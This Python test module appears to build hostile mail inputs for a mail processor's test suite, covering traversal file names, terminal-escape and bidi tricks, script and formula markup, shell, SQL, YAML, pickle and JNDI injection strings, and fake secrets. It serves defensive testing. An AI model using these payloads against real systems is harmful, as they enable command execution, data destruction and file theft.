"""Classes B84 to B88: names of files, and words of mail that would do harm where they are shown, logged or evaluated.

Every hostile text holds `MARK`, so that a test can tell where it has got to.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from email.header import Header
from typing import Any
from urllib.parse import quote

from tests.corpus.cases import ANN, Case

MARK = "xyzzy"

READ: dict[str, Any] = {"verdict": "human", "action": "process", "sender": ANN, "authentication.level": "weak"}

TERMINAL = {
    "escape": f"\x1b[2J\x1b[31m{MARK}\x1b]0;title\x07",
    "c1": f"\x9b2J{MARK}\x9d",
    "carriage-return": f"{MARK}\rmailproc: all is well",
    "bell": f"{MARK}\x07\x08\x08",
    "line-end": f"{MARK}\n2026-11-02T09:00:00 ERROR mailproc: forged",
    "line-separator": f"{MARK}\u2028forged\u2029\x85forged",
    "form-feed": f"{MARK}\x0b\x0c\x1c\x1d\x1e",
    "bidi": f"\u202e{MARK}gnp.exe\u2066\u2069\u200f",
    "zero-width": f"{MARK}\u200b\u200d\ufeff\u2060\u00ad",
    "tags": MARK + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden"),
    "private-use": f"{MARK}\ue000\U0010fffd\ufffe",
    "marks": MARK + "\u0301\u0337" * 500,
    "nul": f"{MARK}\0behind",
    "long": MARK + "x" * 50_000,
}
MARKUP = {
    "script": f"<script>alert('{MARK}')</script>",
    "image": f'<img src="http://192.0.2.1/{MARK}.gif">',
    "link": f"[{MARK}](javascript:alert(1))",
    "mention": f"@**all** @all @channel {MARK}",
    "entity": f"&lt;b&gt;{MARK}&#x202e;",
    "formula": f'=HYPERLINK("http://192.0.2.1/{MARK}")',
    "command": f"+cmd|' /C calc'!A0 {MARK}",
    "braces": f"{{{{7*7}}}}{MARK}{{% include 'x' %}}",
    "cdata": f"]]>{MARK}<!--",
}
EVALUATED = {
    "shell": f"$(touch {MARK});`id`|sh&&rm -rf ~",
    "sql": f"'; DROP TABLE receipt; -- {MARK}",
    "percent": f"%s%n%(reason)s%d{MARK}%",
    "format": f"{{0}}{{__class__}}{{record[args]}}{MARK}{{",
    "template": f"$reason ${{limit}} $$ {MARK}",
    "regex": f"(a+)+$[{MARK}",
    "glob": f"*?[a-z]{MARK}",
    "yaml": f"!!python/object/apply:os.system ['{MARK}']",
    "pickle": f"cos\nsystem\n(S'{MARK}'\ntR.",
    "jndi": f"${{jndi:ldap://192.0.2.1/{MARK}}}",
    "path": f"../../{MARK}\\..\\",
    "option": f"--help={MARK} -rf",
    "url": f"file:///etc/passwd#{MARK}",
}
SECRETS = {
    "password": f"password: {MARK}-hunter2",
    "token": f"Authorization: Bearer {MARK}.abc.def",
    "private-key": f"-----BEGIN PRIVATE KEY-----\n{MARK}MIIEvQ\n-----END PRIVATE KEY-----",
    "url": f"imaps://robot:{MARK}@imap.example.org/",
}


def cases() -> list[Case]:
    """All of them."""
    makers = (
        file_names,
        same_names,
        lambda: shown("B85", TERMINAL),
        lambda: shown("B86", MARKUP),
        lambda: shown("B87", EVALUATED),
    )
    return [case for make in (*makers, in_reasons, secrets) for case in make()]


# B84 -----------------------------------------------------------------------------------------------------------------------


def file_names() -> Iterator[Case]:
    """The name of a file as its sender writes it, and the one that is safe."""
    for number, (name, safe) in enumerate(
        (
            ("../../etc/passwd", "passwd"),
            ("/etc/passwd", "passwd"),
            ("..", "unnamed"),
            ("../", "unnamed"),
            (".", "unnamed"),
            (" ", "unnamed"),
            ("C:\\Windows\\a.exe", "a.exe"),
            ("C:a.exe", "C_a.exe"),
            ("\\\\192.0.2.1\\share\\a.lnk", "a.lnk"),
            ("..\\..\\a", "a"),
            ("a/../b", "b"),
            ("....//a", "a"),
            (".bashrc", "bashrc"),
            ("..a", "a"),
            ("~/.ssh/authorized_keys", "authorized_keys"),
            ("~root", "root"),
            ("-rf", "rf"),
            ("--help", "help"),
            ("CON", "_CON"),
            ("nul.txt", "_nul.txt"),
            ("COM1", "_COM1"),
            ("lpt9.tar.gz", "_lpt9.tar.gz"),
            ("aux .txt", "_aux .txt"),
            ("a.txt.", "a.txt"),
            ("a.txt   ", "a.txt"),
            ("a.txt::$DATA", "a.txt___DATA"),
            ("a|b>c<d?e*f", "a_b_c_d_e_f"),
            ("$(id)`id`", "_(id)_id_"),
            ("a\x1b[31mb", "a_[31mb"),
            ("a\r\nb", "a__b"),
            ("\u202etxt.exe", "txt.exe"),
            ("a\u200bb\ufeff.txt", "ab.txt"),
            ("e\u0301.txt", "\u00e9.txt"),
            ("\u00e9.txt", "\u00e9.txt"),
            ("\uff0e\uff0e\uff0fa", "\uff0e\uff0e\uff0fa"),
            ("%2e%2e%2fa", "%2e%2e%2fa"),
            ("a.exe \u00a0 .txt", "a.exe .txt"),
        )
    ):
        wanted = {"attachments.0.name": name, "attachments.0.safe_name": safe, "attachments.0.type": "application/x-a"}
        disposition = b"attachment; filename*=utf-8''" + quote(name, safe="").encode()
        yield Case(f"B84.{number}", file(disposition), {**READ, **wanted})
    yield Case("B84.nul", file(b'attachment; filename="a%b.txt"' % b"\0"), {**READ, "attachments.0.safe_name": "a_.txt"})
    escaped = file(b"attachment; filename*=utf-8''a%00.txt")
    yield Case("B84.nul-escaped", escaped, {**READ, "attachments.0.name": "a.txt", "attachments.0.safe_name": "a.txt"})
    long = file(b"attachment; filename=" + b"x" * 4096 + b".txt")
    yield Case("B84.4100", long, {**READ, "attachments.0.safe_name": "x" * 200})
    suffix = file(b"attachment; filename=" + b"x" * 4000 + b".txt")
    yield Case("B84.4004", suffix, {**READ, "attachments.0.safe_name": "x" * 196 + ".txt"})
    wide = file(b"attachment; filename*=utf-8''" + quote("\U0001f4a9" * 400).encode())
    yield Case("B84.wide", wide, {**READ, "attachments.0.safe_name": "\U0001f4a9" * 50})
    some = random.Random(84)
    for number in range(20):
        letters = [*"./\\ ~-:*\0\r\n\x1b", "con", "..", "\u202e", "a", "\u00e9", "\ufeff", "%", "$", "|", "\U0001f4a9"]
        name = quote("".join(some.choices(letters, k=30)))
        yield Case(f"B84.at-random-{number}", file(b"attachment; filename*=utf-8''" + name.encode()), READ)


def file(disposition: bytes) -> bytes:
    """A mail with one file."""
    head = b"From: ann@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    part = b"Content-Type: application/x-a\r\nContent-Disposition: " + disposition + b"\r\n\r\nx\r\n"
    return head + b"--b\r\n\r\nHello\r\n--b\r\n" + part + b"--b--\r\n"


def same_names() -> Iterator[Case]:
    """Several files of one name, or of names that some file systems take for one."""
    head = b"From: ann@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    for name, (one, other) in {
        "same": ("a.txt", "a.txt"),
        "case": ("a.txt", "A.TXT"),
        "normal-form": ("\u00e9.txt", "e\u0301.txt"),
        "cleaned": ("a:b", "a?b"),
    }.items():
        fields = [quote(each).encode() for each in (one, other)]
        parts = [b"--b\r\nContent-Disposition: attachment; filename*=utf-8''" + each + b"\r\n\r\nx\r\n" for each in fields]
        wanted = {"attachments.0.name": one, "attachments.1.name": other, "attachments.1.size": 1}
        yield Case(f"B84.twice-{name}", head + b"".join(parts) + b"--b--\r\n", {**READ, **wanted})


# B85 to B87 ----------------------------------------------------------------------------------------------------------------


def shown(name: str, texts: dict[str, str]) -> Iterator[Case]:
    """Each text wherever a sender can put one."""
    for kind, text in texts.items():
        octets = text.encode("utf-8", "surrogatepass")
        flat = octets.replace(b"\r", b" ").replace(b"\n", b" ")
        word = Header(text[:400], "utf-8", maxlinelen=10_000).encode().encode()
        quoted = b'"' + flat.replace(b"\\", b"\\\\").replace(b'"', b'\\"') + b'"'
        body = b"\r\n\r\nHello\r\n" + octets + b"\r\n"
        sane = b"From: ann@example.org\r\n"
        yield Case(f"{name}.{kind}-in-words", b"Subject: " + word + b"\r\nFrom: " + word + b" <ann@example.org>" + body, READ)
        yield Case(f"{name}.{kind}-raw", sane + b"Subject: " + flat + b"\r\nX-A: " + flat + body, READ)
        named = b"From: " + quoted + b" <ann@example.org>"
        yield Case(f"{name}.{kind}-in-a-name", named + body, {"verdict": "human", "action": "process"})
        ids = b"Message-ID: <" + flat + b"@example.net>\r\nReferences: <" + flat + b">\r\nIn-Reply-To: " + flat
        yield Case(f"{name}.{kind}-in-message-id", sane + ids + body, READ)
        yield Case(f"{name}.{kind}-in-to", sane + b"To: " + quoted + b"@example.net, " + word + body, READ)
        yield Case(f"{name}.{kind}-in-a-type", sane + b"Content-Type: " + flat + b"; charset=" + quoted + body, READ)
        encoded = quote(text, safe="", errors="surrogatepass").encode()
        yield Case(f"{name}.{kind}-in-a-file-name", file(b"attachment; filename*=utf-8''" + encoded), READ)
        yield Case(f"{name}.{kind}-in-many-fields", sane + b"Date: " + flat + b"\r\nReceived: " + flat + body, READ)


def in_reasons() -> Iterator[Case]:
    """The few words of a sender that a reason quotes, on one line and cut."""
    for kind, text in {**TERMINAL, **MARKUP, **EVALUATED}.items():
        flat = text.encode().replace(b"\r", b" ").replace(b"\n", b" ")
        head = b"From: ann@example.org\r\n"
        bulk = {"verdict": "bulk", "action": "drop", "rule": "bulk.precedence", "sender": ANN}
        yield Case(f"B85.{kind}-in-precedence", head + b"Precedence: " + flat + b"\r\n\r\nHello", bulk)
        generated = {"verdict": "auto-generated", "action": "drop", "rule": "auto-generated.auto-submitted", "sender": ANN}
        yield Case(f"B85.{kind}-in-auto-submitted", head + b"Auto-Submitted: " + flat + b"\r\n\r\nHello", generated)
        quoted = b'"' + flat.replace(b"\\", b"\\\\").replace(b'"', b'\\"') + b'"'
        report = head + b"Content-Type: multipart/report; boundary=b; report-type=" + quoted + b"\r\n\r\nHello"
        yield Case(f"B85.{kind}-in-report-type", report, {"verdict": "report", "action": "drop", "sender": ANN})


# B88 -----------------------------------------------------------------------------------------------------------------------


def secrets() -> Iterator[Case]:
    """What a mail holds is its receiver's business; it stands in no line that tells how the mail ended."""
    for kind, text in SECRETS.items():
        octets = text.replace("\n", "\r\n").encode()
        yield Case(f"B88.{kind}-in-text", b"From: ann@example.org\r\n\r\n" + octets, {**READ, "reply_text": text})
        field = octets.replace(b"\r\n", b"")
        yield Case(f"B88.{kind}-in-subject", b"From: ann@example.org\r\nSubject: " + field + b"\r\n\r\nHello", READ)
        yield Case(f"B88.{kind}-in-a-field", b"From: ann@example.org\r\nX-A: " + field + b"\r\n\r\nHello", READ)
